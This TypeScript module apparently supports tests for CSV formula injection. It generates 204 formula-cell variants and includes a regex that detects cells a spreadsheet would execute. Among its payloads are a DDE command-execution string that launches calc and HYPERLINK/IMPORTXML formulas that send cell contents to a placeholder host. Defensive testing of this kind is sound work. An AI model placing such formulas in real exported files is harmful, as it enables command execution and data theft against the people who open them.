import { readFileSync } from 'node:fs';
import { z } from 'zod';

const shared = new URL('../../../shared/data/csv/csv-injection/Intruder/csv-payload.txt', import.meta.url);

/** The six published payloads; the shared data must lie beside the repository. */
export function publishedPayloads(): string[] {
  try {
    return readFileSync(shared, 'utf8')
      .split(/\r?\n/)
      .filter((line) => line !== '');
  } catch (cause) {
    throw new Error('formula tests need ../shared/data/csv/csv-injection, got no such file', { cause });
  }
}

const starts = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  '\n=',
  ' =',
  '\u00a0+',
  '\ufeff@',
  '\u200b=',
  '＝',
  '＋',
  '－',
  '＠',
  '\t',
  '\r',
];
const bodies = [
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://x.invalid/?"&A1,"a")',
  '1+1',
  '1+1,=2+2',
  '1"+"1',
  'IMPORTXML(CONCAT("http://x.invalid"),\'a\')',
  'SUM(A1:A9);=3',
  '2-3',
  '(1)',
  'A1\n=B1',
  '"=1"',
  '10%',
];

/** 204 cells that a spreadsheet would run, were they written as they are. */
export const formulaVariants: readonly string[] = starts.flatMap((start) =>
  bodies.map((body) => start + body),
);

/** The "big list of naughty strings", 515 of them; the shared data must lie beside the repository. */
export function naughtyStrings(): string[] {
  const path = new URL('../../../shared/data/csv/blns/blns.json', import.meta.url);
  try {
    return z.array(z.string()).parse(JSON.parse(readFileSync(path, 'utf8')));
  } catch (cause) {
    throw new Error('naughty strings need ../shared/data/csv/blns, got no such file', { cause });
  }
}

const live = /^[\t\r\n]|^[\s\u00a0\ufeff\u200b]*[=+\-@＝＋－＠]/u;

/** Whether a spreadsheet would run this text cell; a plain number is no formula. */
export function isLiveFormula(cell: string): boolean {
  return live.test(cell) && !/^-?\d+(?:\.\d+)?$/.test(cell);
}
